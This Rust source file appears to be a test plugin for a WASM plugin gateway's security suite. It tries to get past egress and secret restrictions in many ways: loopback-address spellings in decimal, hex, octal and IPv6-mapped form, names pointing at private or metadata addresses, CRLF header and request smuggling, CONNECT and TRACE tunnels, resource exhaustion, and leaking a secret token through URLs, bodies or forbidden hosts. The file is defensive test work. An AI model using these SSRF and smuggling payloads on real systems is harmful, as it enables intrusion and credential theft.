//! A plugin that wants to get where it may not, or to take more than its share on the way. The configuration says how.
//!
//! What it found out is the answer to the caller. What each attack must come to is written down in `tests/data/egress.txt`.

#[cfg(target_family = "wasm")]
mod raw;

use stile_sdk::prelude::*;

#[config]
struct Config {
    attack: Attack,
    /// Host and port of the server that it may ask, and that plays along.
    allowed: String,
    /// Host and port of one that it may not.
    forbidden: String,
}

/// What is tried.
#[config]
#[derive(Clone, Copy, PartialEq)]
enum Attack {
    /// Nothing: the server is asked as it may be.
    None,
    /// The same in capitals.
    Capitals,
    /// With a name that is not on the list.
    OtherHost,
    OtherPort,
    OtherScheme,
    /// 127.0.0.1 in its other spellings.
    Decimal,
    Hexadecimal,
    Octal,
    Short,
    Mapped,
    Escaped,
    FullStop,
    /// With a name and a password before the host, which is not the one that it looks like.
    Credentials,
    /// A listed name with the address of this machine.
    PrivateName,
    /// A listed name with the address of a metadata service.
    MetadataName,
    /// A listed name with a public address and a private one.
    MixedName,
    /// Goes where a redirect leads.
    Redirect,

    /// A header value with a line break and another field.
    Crlf,
    Host,
    Connection,
    TransferEncoding,
    Proxy,
    /// A tunnel through the server.
    Connect,
    /// Has the server repeat what the gateway sent.
    Trace,
    /// A path with a line break and another request.
    PathCrlf,
    /// Fewer bytes than declared.
    ShortBody,
    /// More bytes than declared.
    LongBody,
    /// A body over `outgoing_request_bytes_max`.
    LargeBody,

    /// An answer over `outgoing_response_bytes_max`.
    LargeAnswer,
    /// The same, with the length at its head.
    DeclaredAnswer,
    /// Header fields over `outgoing_header_bytes_max`.
    LargeHead,
    /// An answer that does not come.
    SlowAnswer,
    /// An answer that comes a byte at a time.
    Drip,
    /// One that does not come, and all the time that the call has.
    Deadline,
    /// One request more than `outgoing_calls_max`.
    Calls,
    /// Two at a time more than `outgoing_concurrency_max`.
    AtOnce,
    /// Leaves while the answer is awaited.
    LeaveBehind,
    /// Takes handles for header fields until there are none.
    Hoard,

    /// Reads the secret where it has its placeholder from.
    SecretText,
    /// Has the server repeat it.
    SecretEcho,
    /// Puts it into the URL, which stands in logs.
    SecretUrl,
    /// Puts it into the body.
    SecretBody,
    /// Sends it to a server that it may ask, but not with the secret.
    SecretElsewhere,
    /// Asks for a secret of another plugin.
    SecretOther,

    /// Sends before it is called.
    Init,
}

struct Egress {
    config: Config,
    in_init: Option<String>,
}

#[plugin(capabilities(outgoing_http = "to get out", secrets = "to get at them"))]
impl Egress {
    fn new(config: Config) -> Self {
        let in_init =
            (config.attack == Attack::Init).then(|| told(http::get(format!("http://{}/", config.allowed)).send()));
        Self { config, in_init }
    }

    #[pre]
    fn attack(&self) -> Result<Reply, String> {
        self.tried().map(|told| Reply::new(200).body(told.into_bytes()))
    }

    /// Sees what all callers send, and wants to tell it.
    #[analytics]
    fn tell(&self, record: &mut Record) {
        record.add_tag(told(http::get(format!("http://{}/", self.config.allowed)).send()));
    }

    fn tried(&self) -> Result<String, String> {
        let Config { attack, allowed, forbidden } = &self.config;
        let (_, port) = forbidden.split_once(':').ok_or("no port")?;
        let to = |authority: &str| told(http::get(format!("http://{authority}/")).send());
        let with = |name: &str, value: &str| told(http::get(format!("http://{allowed}/")).header(name, value).send());
        Ok(match attack {
            Attack::None => to(allowed),
            Attack::Capitals => to(&allowed.to_uppercase()),
            Attack::OtherHost => to("other.test"),
            Attack::OtherPort => to(&format!("{}:1", allowed.split(':').next().unwrap_or_default())),
            Attack::OtherScheme => told(http::get(format!("https://{allowed}/")).send()),
            Attack::Decimal => to(&format!("2130706433:{port}")),
            Attack::Hexadecimal => to(&format!("0x7f.1:{port}")),
            Attack::Octal => to(&format!("0177.0.0.1:{port}")),
            Attack::Short => to(&format!("127.1:{port}")),
            Attack::Mapped => to(&format!("[::ffff:127.0.0.1]:{port}")),
            Attack::Escaped => to(&format!("127%2e0%2e0%2e1:{port}")),
            Attack::FullStop => to(&allowed.replace(':', ".:")),
            Attack::Credentials => to(&format!("{allowed}@{forbidden}")),
            Attack::PrivateName => to(&format!("private.test:{port}")),
            Attack::MetadataName => to(&format!("metadata.test:{port}")),
            Attack::MixedName => to(&format!("mixed.test:{port}")),
            Attack::Redirect => {
                let reply = http::get(format!("http://{allowed}/redirect")).send()?;
                let location = reply.header_text("location").unwrap_or_default();
                format!("{}, {}", reply.status, told(http::get(location).send()))
            }
            Attack::Crlf => with("x-a", "1\r\nx-smuggled: 2"),
            Attack::Host => with("host", "other.test"),
            Attack::Connection => with("connection", "close"),
            Attack::TransferEncoding => with("transfer-encoding", "chunked"),
            Attack::Proxy => with("proxy-authorization", "Basic eDp5"),
            Attack::Connect => told(http::Request::new("CONNECT", format!("http://{allowed}/")).send()),
            Attack::Trace => told(http::Request::new("TRACE", format!("http://{allowed}/")).send()),
            Attack::PathCrlf => to(&format!("{allowed}/ HTTP/1.1\r\nx-smuggled: 2\r\n\r\nGET /")),
            Attack::ShortBody => declared(allowed, 6),
            Attack::LongBody => declared(allowed, 4),
            Attack::LargeBody => told(http::post(format!("http://{allowed}/")).body(vec![b'x'; LARGE_BYTES]).send()),
            Attack::LargeAnswer => to(&format!("{allowed}/large")),
            Attack::DeclaredAnswer => to(&format!("{allowed}/declared")),
            Attack::LargeHead => to(&format!("{allowed}/head")),
            Attack::Drip => to(&format!("{allowed}/drip")),
            Attack::SlowAnswer | Attack::Deadline => to(&format!("{allowed}/slow")),
            Attack::Calls => (0..9).map(|_| to(allowed)).collect(),
            Attack::AtOnce => at_once(allowed),
            Attack::LeaveBehind => leave_behind(allowed),
            Attack::Hoard => hoard(),
            Attack::SecretText => placeholder()?.replace(|c: char| c.is_ascii_hexdigit(), "h"),
            Attack::SecretEcho => {
                let answer = http::get(format!("http://{allowed}/echo")).header("x-secret", placeholder()?).send()?;
                let header = answer.header_text("x-secret").unwrap_or_default();
                format!("{header} {}", String::from_utf8_lossy(&answer.body))
            }
            Attack::SecretUrl => to(&format!("{allowed}/?{}", placeholder()?)),
            Attack::SecretBody => told(http::post(format!("http://{allowed}/")).body(placeholder()?).send()),
            Attack::SecretElsewhere => {
                told(http::get(format!("http://{forbidden}/")).header("x-secret", placeholder()?).send())
            }
            Attack::SecretOther => secrets::placeholder("other").map_or_else(|error| format!("{error:?}"), |text| text),
            Attack::Init => self.in_init.clone().unwrap_or_default(),
        })
    }
}

fn placeholder() -> Result<String, String> {
    secrets::placeholder("token").map_err(|error| format!("{error:?}"))
}

fn told(sent: Result<http::Response, http::Error>) -> String {
    match sent {
        Ok(answer) => answer.status.to_string(),
        Err(error) => error.to_string(),
    }
}

#[cfg(target_family = "wasm")]
use raw::{at_once, declared, hoard, leave_behind};

/// Natively there is no `wasi:http`.
#[cfg(not(target_family = "wasm"))]
mod native {
    pub(super) fn declared(_: &str, _: usize) -> String {
        String::new()
    }
    pub(super) fn at_once(_: &str) -> String {
        String::new()
    }
    pub(super) fn leave_behind(_: &str) -> String {
        String::new()
    }
    pub(super) fn hoard() -> String {
        String::new()
    }
}
#[cfg(not(target_family = "wasm"))]
use native::{at_once, declared, hoard, leave_behind};

/// Longer than `outgoing_request_bytes_max` of the test.
const LARGE_BYTES: usize = 300_000;
